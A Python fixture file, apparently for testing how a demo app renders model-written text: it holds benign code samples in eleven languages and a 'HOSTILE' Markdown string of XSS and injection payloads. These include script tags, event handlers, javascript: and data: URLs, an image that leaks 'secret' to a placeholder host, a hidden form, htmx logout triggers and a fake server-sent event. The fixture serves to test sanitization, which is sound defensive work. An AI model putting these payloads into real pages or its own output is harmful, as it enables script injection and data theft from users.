"""Code the demo model can write: `{name}` is a name made of the subject's words, `{subject}` those words."""

from __future__ import annotations

SAMPLES: dict[str, str] = {
    "python": '''\
from collections import Counter


def {name}(lines: list[str], limit: int = 10) -> list[tuple[str, int]]:
    """Sample for “{subject}”: counts words."""
    words = (word.casefold() for line in lines for word in line.split())
    return Counter(words).most_common(limit)


if __name__ == "__main__":
    for word, count in {name}(["a rose is a rose", "is a rose"]):
        print(f"{{word:<10}} {{count}}")
''',
    "javascript": """\
// {subject}
export async function* {name}(response) {{
  const reader = response.body.pipeThrough(new TextDecoderStream()).getReader();
  for (;;) {{
    const {{ value, done }} = await reader.read();
    if (done) return;
    yield value;
  }}
}}
""",
    "typescript": """\
type Entry = {{ key: string; value: number }};

/** {subject} */
export function {name}(entries: readonly Entry[]): Map<string, number> {{
  const totals = new Map<string, number>();
  for (const {{ key, value }} of entries) {{
    totals.set(key, (totals.get(key) ?? 0) + value);
  }}
  return totals;
}}
""",
    "ruby": """\
# {subject}
module Demo
  def self.{name}(words)
    words.map(&:downcase).tally.sort_by {{ |word, count| [-count, word] }}
  end
end

Demo.{name}(%w[rose Rose tulip]).each {{ |word, count| puts "#{{word}}: #{{count}}" }}
""",
    "go": """\
package main

import "fmt"

// {name}: {subject}
func {name}(numbers []int) (sum int) {{
	for _, number := range numbers {{
		sum += number
	}}
	return sum
}}

func main() {{
	fmt.Println({name}([]int{{1, 2, 3}}))
}}
""",
    "rust": """\
use std::collections::HashMap;

/// {subject}
fn {name}(text: &str) -> HashMap<&str, usize> {{
    let mut counts = HashMap::new();
    for word in text.split_whitespace() {{
        *counts.entry(word).or_insert(0) += 1;
    }}
    counts
}}
""",
    "sql": """\
-- {subject}
SELECT customer.name, count(*) AS orders, sum(item.price * item.quantity) AS total
FROM customer
JOIN orders ON orders.customer_id = customer.id
JOIN item ON item.order_id = orders.id
WHERE orders.placed_at >= current_date - interval '30 days'
GROUP BY customer.name
HAVING count(*) > 1
ORDER BY total DESC
LIMIT 20;
""",
    "bash": """\
#!/usr/bin/env bash
# {subject}
set -euo pipefail

for file in "$@"; do
  printf '%8d %s\\n' "$(wc -l < "$file")" "$file"
done | sort -rn | head -20
""",
    "html": """\
<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <title>{subject}</title>
  </head>
  <body>
    <h1>{subject}</h1>
    <p>Hello &amp; welcome.</p>
  </body>
</html>
""",
    "css": """\
/* {subject} */
.card {{
  display: grid;
  gap: 1rem;
  padding: clamp(1rem, 4vw, 2rem);
  border-radius: 0.75rem;
  background: color-mix(in srgb, canvas 92%, canvastext);
}}
""",
    "java": """\
import java.util.List;

/** {subject} */
public final class Demo {{
    static int {name}(List<Integer> numbers) {{
        return numbers.stream().mapToInt(Integer::intValue).sum();
    }}

    public static void main(String[] arguments) {{
        System.out.println({name}(List.of(1, 2, 3)));
    }}
}}
""",
}

HOSTILE = """\
# <b>Hostile</b> <script>window.hostile = "heading"</script>

<script>window.hostile = "block"</script>

<img src="x" onerror="window.hostile = 'image'"> and ![pixel](https://example.invalid/leak?q=secret)

[javascript](javascript:window.hostile='link') [data](data:text/html,<script>alert(1)</script>) \
[entity](jav&#x61;script:window.hostile='entity') <javascript:window.hostile='auto'>

<iframe src="https://example.invalid/"></iframe><style>body { display: none }</style>

```html" onmouseover="window.hostile='fence'
</code></pre><script>window.hostile = "code"</script>
```

| <script>window.hostile = "cell"</script> | b |
|---|---|
| </td></table><form action="https://example.invalid/"><input name="prompt"></form> | `</code><svg onload=alert(1)>` |

<hx-partial hx-target="body" hx-swap="innerHTML">swapped</hx-partial>
<div hx-get="/logout" hx-trigger="load">loaded</div>

event: done
data: injected

The end 🏁
"""
